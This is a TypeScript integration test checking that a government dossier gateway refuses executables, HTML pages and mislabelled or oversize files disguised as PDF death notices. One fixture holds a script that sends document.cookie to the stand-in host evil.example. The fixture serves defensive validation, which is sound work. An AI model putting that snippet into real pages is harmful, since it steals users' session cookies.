/**
 * The attachment policy as a citizen meets it through the gateway: a file is judged by its content
 * (an executable or an HTML page named `.pdf` and declared `application/pdf` is refused), its name must
 * agree with its type, an oversize file is refused with a typed error, and none of these writes anything.
 */
import { DEATH_NOTICE, DEATH_REGISTRATION, DEATH_REGISTRATION_FORM } from '../support/journey';
import { gql } from '../support/gateway-client';
import { startTestHub, type TestHub } from '../support/test-hub';

const PROCEDURE = DEATH_REGISTRATION;
const formData = DEATH_REGISTRATION_FORM;

const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
/** A Windows executable's start (MZ header and DOS stub text). */
const EXE = Buffer.concat([Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]), Buffer.from('This program cannot be run in DOS mode.\r\n'), Buffer.alloc(200)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]), Buffer.alloc(200)]);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>');
/** `%PDF-` hidden after leading whitespace: not what a PDF starts with. */
const PADDED_PDF = Buffer.concat([Buffer.from('   \n<html>'), PDF]);

const file = (content: Buffer, extra: Record<string, unknown> = {}) => ({
  componentName: DEATH_NOTICE,
  fileName: 'giay-bao-tu.pdf',
  contentType: 'application/pdf',
  contentBase64: content.toString('base64'),
  ...extra,
});

type GqlResult = { data?: any; errors?: ReadonlyArray<{ extensions?: Record<string, unknown> }> };
const extensionsOf = (res: GqlResult) => res.errors?.[0]?.extensions;

describe('attachment policy through the gateway', () => {
  let t: TestHub;

  beforeAll(async () => {
    t = await startTestHub(false);
  });

  afterAll(async () => {
    await t?.stop();
  });

  const submit = (attachments: unknown[], idempotencyKey?: string): Promise<GqlResult> =>
    gql(
      t.url,
      `mutation($i: SubmitDossierInput!) { submitDossier(input: $i) { code attachments { fileName contentType sizeBytes } } }`,
      { i: { procedureCode: PROCEDURE, formData, attachments, ...(idempotencyKey ? { idempotencyKey } : {}) } },
      t.citizen,
    );
  const stored = async () => {
    const prisma = t.hub.db!.prisma;
    return { dossiers: await prisma.dossier.count(), attachments: await prisma.dossierAttachment.count() };
  };

  it.each<[string, Record<string, unknown>, string, string]>([
    ['a Windows executable named .pdf', file(EXE), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].contentBase64'],
    ['a Linux executable named .pdf', file(ELF), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].contentBase64'],
    ['an HTML page named .pdf', file(HTML), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].contentBase64'],
    ['an HTML page with a PDF inside', file(PADDED_PDF), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].contentBase64'],
    ['an HTML page declared as HTML', file(HTML, { fileName: 'giay-bao-tu.html', contentType: 'text/html' }), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].contentType'],
    ['a real PDF named .exe', file(PDF, { fileName: 'giay-bao-tu.exe' }), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].fileName'],
    ['a real PDF named .html', file(PDF, { fileName: 'giay-bao-tu.pdf.html' }), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].fileName'],
    ['a real PDF without an extension', file(PDF, { fileName: 'giay-bao-tu' }), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].fileName'],
    ['a PNG declared as a PDF', file(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0])), 'UNSUPPORTED_CONTENT_TYPE', 'attachments[0].contentBase64'],
  ])('refuses %s, writing nothing', async (_label, attachment, code, field) => {
    const before = await stored();
    const res = await submit([attachment]);
    expect(res.data?.submitDossier ?? null).toBeNull();
    expect(extensionsOf(res)).toMatchObject({ code, field });
    expect(await stored()).toEqual(before);
  });

  it('refuses a file over the size cap with a typed error, writing nothing', async () => {
    const before = await stored();
    const big = Buffer.concat([PDF, Buffer.alloc(11 * 1024 * 1024, 'a')]);
    const res = await submit([file(big)]);
    expect(res.data?.submitDossier ?? null).toBeNull();
    // Whichever guard sees it first (the gateway's variables or body cap, or the file cap) refuses it, typed.
    expect(['ATTACHMENT_TOO_LARGE', 'VARIABLES_TOO_LARGE', 'PAYLOAD_TOO_LARGE']).toContain(extensionsOf(res)?.code);
    expect(await stored()).toEqual(before);
  });

  it('still takes a real PDF named .pdf, and a PNG named .PNG', async () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
    const res = await submit([file(PDF), file(png, { componentName: null, fileName: 'anh-chup.PNG', contentType: 'image/png' })], 'attachment-policy-ok');
    expect(res.errors).toBeUndefined();
    expect(res.data.submitDossier.attachments).toEqual(
      expect.arrayContaining([
        { fileName: 'giay-bao-tu.pdf', contentType: 'application/pdf', sizeBytes: PDF.length },
        { fileName: 'anh-chup.PNG', contentType: 'image/png', sizeBytes: png.length },
      ]),
    );
  });
});
